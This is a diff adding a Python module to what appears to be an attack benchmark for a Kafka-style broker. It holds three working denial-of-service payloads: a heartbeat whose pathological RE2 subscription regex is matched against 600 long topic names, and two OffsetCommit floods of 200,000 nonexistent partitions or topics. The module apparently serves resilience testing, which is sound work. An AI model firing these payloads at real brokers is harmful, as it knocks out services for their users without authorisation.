@@ -1,0 +1,108 @@
+"""What members and commits of groups can ask for: slow expressions, and offsets that are all refused."""
+
+from __future__ import annotations
+
+import random
+
+from bench.attacks.attack import Attack, Frames, Outcome, Victim
+from bench.attacks.long_frames import repeated
+from bench.groups import TOPIC, wait_for_coordinator
+from bench.wire import Wire, create_topic
+from ottla.protocol.generated.consumer_group_heartbeat import ConsumerGroupHeartbeatRequest
+from ottla.protocol.generated.create_topics import CreatableTopic, CreateTopicsRequest
+from ottla.protocol.generated.offset_commit import (
+    OffsetCommitRequest,
+    OffsetCommitRequestPartition,
+    OffsetCommitRequestTopic,
+)
+from ottla.protocol.header import RequestHeader, encode_request
+
+OFFSET_COMMIT, CREATE_TOPICS, CONSUMER_GROUP_HEARTBEAT = 8, 19, 68
+GROUP = "g"
+TOPICS = 600
+NAME_LENGTH = 249
+#: RE2 promises linear time: for each character it goes through all states that it may be in, and here these are all.
+EXPRESSION = "(a?.?){1000}(a?.?){1000}(a?.?){1000}x"
+COMMITS = 200_000
+
+
+def prepare_group(port: int) -> None:
+    create_topic(port, TOPIC)
+    wait_for_coordinator(port, GROUP)
+
+
+class SlowExpression(Attack):
+    name = "expression"
+    sends = f"an RE2 expression of {len(EXPRESSION)} bytes over {TOPICS} topics with names of {NAME_LENGTH} characters"
+
+    def prepare(self, victim: Victim) -> None:
+        prepare_group(victim.port)
+        rng = random.Random(1)
+        names = ["".join(rng.choices("ab", k=NAME_LENGTH)) for _ in range(TOPICS)]
+        topics = [CreatableTopic(name=name, num_partitions=1, replication_factor=1) for name in names]
+        with Wire(victim.port) as wire:
+            wire.call(CREATE_TOPICS, 7, CreateTopicsRequest(topics=topics, timeout_ms=60_000))
+
+    def run(self, victim: Victim) -> Outcome:
+        message = ConsumerGroupHeartbeatRequest(
+            group_id="matching",
+            member_id="m",
+            member_epoch=0,
+            rebalance_timeout_ms=60_000,
+            subscribed_topic_regex=EXPRESSION,
+            topic_partitions=[],
+        )
+        header = RequestHeader(api_key=CONSUMER_GROUP_HEARTBEAT, api_version=1, correlation_id=1, client_id="attack")
+        frame = encode_request(header, message)
+        with victim.connect() as attacker:
+            return Outcome(sent=len(frame), answers=[attacker.ask(frame)])
+
+
+def refused_partitions() -> bytes:
+    """Of one topic that there is not."""
+
+    def message(partitions: list[OffsetCommitRequestPartition]) -> OffsetCommitRequest:
+        topic = OffsetCommitRequestTopic(name="no-such", partitions=partitions)
+        return OffsetCommitRequest(group_id=GROUP, topics=[topic])
+
+    def elements(first: int, how_many: int) -> list[OffsetCommitRequestPartition]:
+        return [
+            OffsetCommitRequestPartition(partition_index=number, committed_offset=1, committed_metadata="")
+            for number in range(first, first + how_many)
+        ]
+
+    return repeated(OFFSET_COMMIT, 8, message, elements, count_max=COMMITS)
+
+
+def refused_topics() -> bytes:
+    """As many topics, none of which there is."""
+    partitions = [OffsetCommitRequestPartition(partition_index=0, committed_offset=1, committed_metadata="")]
+
+    def elements(first: int, how_many: int) -> list[OffsetCommitRequestTopic]:
+        return [
+            OffsetCommitRequestTopic(name=f"no-such-{number:06}", partitions=partitions)
+            for number in range(first, first + how_many)
+        ]
+
+    def message(topics: list[OffsetCommitRequestTopic]) -> OffsetCommitRequest:
+        return OffsetCommitRequest(group_id=GROUP, topics=topics)
+
+    return repeated(OFFSET_COMMIT, 8, message, elements, count_max=COMMITS)
+
+
+def attacks() -> list[Attack]:
+    return [
+        SlowExpression(),
+        Frames(
+            "commit-partitions",
+            f"OffsetCommit of {COMMITS:,} partitions of a topic that there is not",
+            lambda: [refused_partitions()],
+            before=prepare_group,
+        ),
+        Frames(
+            "commit-topics",
+            f"OffsetCommit of {COMMITS:,} topics that there are not",
+            lambda: [refused_topics()],
+            before=prepare_group,
+        ),
+    ]
